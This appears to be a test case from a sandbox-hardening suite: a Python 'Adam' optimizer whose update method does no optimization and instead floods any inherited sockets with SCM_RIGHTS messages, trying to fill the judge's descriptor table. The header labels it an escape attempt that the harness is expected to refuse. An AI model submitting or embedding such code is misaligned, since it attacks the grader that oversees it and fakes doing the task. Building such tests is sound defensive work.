# expect: wrong error refused timeout
# family: escape
# exercise: adam
# Sends hundreds of its open files along with a byte, to fill the judge's table of descriptors.
import array
import os
import socket
import stat


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        for fd in range(3, 64):
            try:
                if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                    continue
                line = socket.socket(fileno=os.dup(fd))
                for _ in range(50):
                    line.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 250))])
            except OSError:
                continue
